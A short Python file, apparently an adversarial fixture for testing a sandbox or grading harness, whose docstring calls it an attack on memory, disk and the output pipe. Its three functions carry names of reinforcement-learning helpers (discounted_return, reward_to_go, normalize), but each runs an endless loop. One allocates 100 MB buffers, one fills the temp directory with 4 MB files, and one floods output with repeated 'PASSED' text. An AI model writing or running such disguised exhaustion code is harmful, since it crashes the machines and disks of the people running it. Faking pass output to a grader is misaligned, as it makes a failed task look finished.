"""Attack: exhaust memory, disk and the output pipe."""
import os


def discounted_return(rewards, gamma):
    hog = []
    while True:
        hog.append(bytearray(100 * 2**20))


def reward_to_go(rewards, gamma):
    i = 0
    while True:
        with open(os.path.join(os.environ.get("TMPDIR", "/tmp"), f"fill{i}"), "wb") as f:
            f.write(b"\0" * 2**20 * 4)
        i += 1


def normalize(values):
    chunk = "PASSED " * 10000 + "\n"
    while True:
        print(chunk, end="")
